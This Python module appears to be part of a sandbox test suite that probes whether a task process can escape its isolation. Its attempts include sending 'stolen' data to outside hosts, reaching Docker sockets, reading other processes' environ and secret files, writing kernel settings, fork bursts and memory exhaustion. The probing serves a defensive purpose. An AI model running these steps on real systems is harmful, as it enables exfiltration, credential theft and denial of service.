"""What hostile code in a task process tries, for a workspace's src/: it needs nothing but Python.

`attempts()` gives name -> "refused: why" or "DONE: what it got". What there is to attack is in
`targets.json` beside this file, written by `targets` of the test:

    tcp: [[host, port], ...]   listeners outside       unix: [path, ...]   sockets of others
    udp: [host, port]          echoes what it hears    abstract: name      a socket of another
    secrets: [path, ...]       files of others         spoils: [path, ...] files to write
    memory: bytes              more than is allowed    pid: of a process of others
"""

import ctypes
import json
import mmap
import os
import resource
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

DOCKER = ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")
FORKS = 10_000
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000


class RefusedError(Exception):
    """Nothing was gained."""


def attempts(skip: tuple[str, ...] = ()) -> dict[str, str]:
    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
    return {name: tried(attack) for name, attack in attacks(targets) if name not in skip}


def tried(attack: Callable[[], object]) -> str:
    try:
        return f"DONE: {attack()}"[:200]
    except (OSError, MemoryError, ValueError, RefusedError) as error:
        return f"refused: {type(error).__name__}: {error}"[:200]


def attacks(targets: dict) -> Iterator[tuple[str, Callable[[], object]]]:
    for host, port in targets["tcp"]:
        yield f"tcp {host}", partial(tcp, host, port)
    yield "tcp outside", partial(tcp, "192.0.2.1", 443)
    yield "udp", partial(udp, *targets["udp"])
    yield "dns", partial(socket.getaddrinfo, "example.org", 443)
    yield "raw socket", partial(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
    yield "interfaces", interfaces
    yield "abstract socket", partial(unix, "\0" + targets["abstract"])
    for path in (*targets["unix"], *DOCKER):
        yield f"socket {path}", partial(unix, path)
    for path in targets["secrets"]:
        yield f"read {path}", partial(read, path)
    yield "list the workspace", partial(other_names, targets.get("secrets", []))
    for path in targets["spoils"]:
        yield f"write {path}", partial(spoil, path)
    for path in exchanged():
        yield f"write {path}", partial(spoil, path)
        yield f"replace {path}", partial(replace, path)
    yield "processes of others", processes
    yield "signal", partial(os.kill, targets["pid"], 0)
    yield "memory of others", partial(read, f"/proc/{targets['pid']}/environ")
    yield "kernel settings", partial(spoil, "/proc/sys/kernel/core_pattern")
    yield "user namespace", partial(unshared, CLONE_NEWUSER)
    yield "network namespace", partial(unshared, CLONE_NEWNET)
    yield "mount", mount
    yield "larger limits", larger
    yield "forks", forks
    yield "a terabyte", partial(bytearray, 1 << 40)
    yield "memory piece by piece", partial(pieces, targets["memory"])


# -- out of the machine -----------------------------------------------------------------------


def tcp(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=3) as connection:
        connection.sendall(b"stolen")
        return "connected"


def udp(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(1)
        sender.sendto(b"stolen", (host, port))
        return f"heard {sender.recv(100)!r}"


def interfaces() -> str:
    found = [name for _, name in socket.if_nameindex() if name != "lo"]
    return nothing_or(found)


def unix(address: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect(address)
        return "connected"


# -- files ------------------------------------------------------------------------------------


def read(path: str) -> str:
    return f"{len(Path(path).read_bytes())} bytes"


def other_names(secrets: list[str]) -> str:
    """The names of what is secret, where its contents cannot be had."""
    return nothing_or([path for path in secrets if os.path.lexists(path)])


def spoil(path: str) -> str:
    """Opens it for writing, and leaves everything as it is: where a wall is missing, this is the
    machine of whoever tests."""
    there = os.path.lexists(path)
    with open(path, "ab"):
        pass
    if not there:
        os.unlink(path)
    return "opened for writing"


def replace(path: str) -> str:
    os.rename(path, f"{path}.old")
    os.rename(f"{path}.old", path)
    return "renamed"


def exchanged() -> list[str]:
    """What the agent keeps in the exchange folder."""
    folder = Path(sys.argv[sys.argv.index("--exchange") + 1]) if "--exchange" in sys.argv else None
    if folder is None:
        return []
    names = ("task.json", "agent.sock", "in", "in/model", "out")
    return [str(folder / name) for name in names if (folder / name).exists()]


# -- the machine ------------------------------------------------------------------------------


def processes() -> str:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and b"openfed.launch.node" in (entry / "cmdline").read_bytes():
            found.append(entry.name)
    return nothing_or(found)


def unshared(what: int) -> str:
    if (child := os.fork()) == 0:
        os._exit(1 if ctypes.CDLL(None).unshare(what) else 0)
    if os.waitpid(child, 0)[1]:
        raise RefusedError("unshare failed")
    return "unshared"


def mount() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None):
        raise OSError(ctypes.get_errno(), "mount")
    libc.umount(b"/tmp")
    return "mounted"


def larger() -> str:
    hard = resource.getrlimit(resource.RLIMIT_DATA)[1]
    if hard == resource.RLIM_INFINITY:
        return "there is no limit"
    resource.setrlimit(resource.RLIMIT_DATA, (hard + 1, hard + 1))
    return "raised"


def forks() -> str:
    made = []
    try:
        for _ in range(FORKS):
            if (child := os.fork()) == 0:
                signal.pause()
                os._exit(0)
            made.append(child)
        return f"{len(made)} processes"
    except OSError as error:
        raise RefusedError(f"{error} after {len(made)} processes") from None
    finally:
        for child in made:
            os.kill(child, signal.SIGKILL)
        for child in made:
            os.waitpid(child, 0)


def pieces(most: int) -> str:
    """Shared memory counts in no process's own limits."""
    if (child := os.fork()) == 0:
        held = []
        for _ in range(0, most, 16 << 20):
            held.append(mmap.mmap(-1, 16 << 20))
            held[-1].write(b"\1" * (16 << 20))
        time.sleep(0)
        os._exit(0)
    ended = os.waitpid(child, 0)[1]
    if ended:
        raise RefusedError(f"it ended with {os.waitstatus_to_exitcode(ended)}")
    return f"{most} bytes"


def nothing_or(found: list[str]) -> str:
    if not found:
        raise RefusedError("nothing to be seen")
    return ", ".join(found)
